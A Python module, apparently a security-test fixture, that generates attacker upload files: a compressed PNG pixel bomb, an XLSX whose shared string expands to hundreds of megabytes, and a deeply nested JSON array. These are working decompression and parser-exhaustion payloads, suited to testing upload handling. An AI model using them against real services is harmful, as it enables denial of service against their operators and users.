"""Files of the attacker's own, uploaded before the attacks: small ones that are large when they are opened."""

import io
import struct
import zipfile
import zlib

SIDE = 20_000  # pixels: 400 million, of one bit each
SHEET_BYTES = 200 << 20


def own_files() -> dict[str, tuple[str, bytes]]:
    """The word that stands for a file's id in an attack's code -> its name and content."""
    return {
        "OWN_FILE": ("mine.csv", b"a,b\n1,2\n"),
        "PIXEL_BOMB": ("bomb.png", pixel_bomb()),
        "SHEET_BOMB": ("bomb.xlsx", sheet_bomb()),
        "JSON_BOMB": ("bomb.json", b"[" * 200_000),
    }


def pixel_bomb() -> bytes:
    """A PNG of fifty kilobytes (https://www.w3.org/TR/png/)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    squeeze = zlib.compressobj(9)
    row = bytes(1 + SIDE // 8)
    body = b"".join(squeeze.compress(row * 100) for _ in range(SIDE // 100)) + squeeze.flush()
    header = struct.pack(">IIBBBBB", SIDE, SIDE, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def sheet_bomb() -> bytes:
    """A workbook whose only sheet is one shared string that does not end for hundreds of megabytes."""
    parts = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        "</Types>",
        "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>",
        "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>',
    }
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>')
            piece = b"x" * (1 << 20)
            for _ in range(SHEET_BYTES >> 20):
                part.write(piece)
    return file.getvalue()
